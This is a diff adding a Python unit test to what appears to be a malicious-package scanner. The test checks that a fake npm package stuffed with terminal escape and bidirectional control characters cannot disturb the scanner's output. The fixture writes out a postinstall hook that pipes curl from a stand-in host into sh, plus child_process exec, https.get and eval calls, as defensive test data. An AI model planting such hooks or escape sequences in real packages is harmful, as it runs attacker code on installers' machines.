@@ -148,6 +148,39 @@ class Formats(Case):
         self.assertNotIn(b"\x1b", result.stdout)
         self.assertIn(b"2 packages", result.stdout.splitlines()[-1])
 
+    def test_nothing_of_a_package_moves_the_terminal(self):
+        evil = "\x1b[31m\x1b]0;owned\x07\u202e\u200b\x9b2J\x08"
+        with tempfile.TemporaryDirectory() as place:
+            package = Path(place) / f"p{evil}"
+            package.mkdir()
+            file = f"a{evil}.js"
+            (package / "package.json").write_text(json.dumps({
+                "name": f"x{evil}", "version": f"1{evil}", "main": file,
+                "scripts": {"postinstall": f"curl http://h.invalid/{evil} | sh"}}))
+            (package / file).write_text(
+                f"const q = '{evil}'; function f() {{ require('child_process').exec('id {evil}'); }}\n"
+                f"f(); require('https').get('https://h.invalid/{evil}'); eval('g(1) // {evil}')")
+            lockfile = Path(place) / "package-lock.json"
+            lockfile.write_text(json.dumps({"name": evil, "lockfileVersion": 3, "packages": {
+                f"node_modules/{evil}z": {"version": f"1{evil}", "resolved": f"git+ssh://x{evil}"}}}))
+            commands = [["scan", "--threshold", "0"], ["scan", "-v", "--threshold", "0"], ["explain"],
+                        ["sequence"], ["sequence", "--format", "jsonl"], ["callgraph"],
+                        ["callgraph", "--format", "edges"], ["diff", TWIN]]
+            commands += [["dump", step] for step in
+                         ("archive", "package", "syntax", "behaviour", "callgraph", "sequence")]
+            commands += [["scan", "--format", name, "--threshold", "0"]
+                         for name in ("json", "jsonl", "sarif", "html", "osv", "cyclonedx")]
+            cases = [[*command, package] for command in commands]
+            cases += [["lockfile", lockfile], ["lockfile", "--format", "json", lockfile], ["scan", lockfile],
+                      ["scan", package / "missing"]]
+            for case in cases:
+                result = run(*case)
+                self.assertTrue(result.stdout or result.stderr, case)
+                for text in (result.stdout.decode(), result.stderr.decode()):
+                    moves = {c for c in text if (c < " " and c != "\n") or "\x7f" <= c <= "\x9f"
+                             or c in "\u202e\u200b"}
+                    self.assertEqual(moves, set(), case)
+
     def test_hostile_bytes_stay_valid(self):
         name = b"b\xff\x1b[2J.js"
         (self.folder / "p").mkdir()
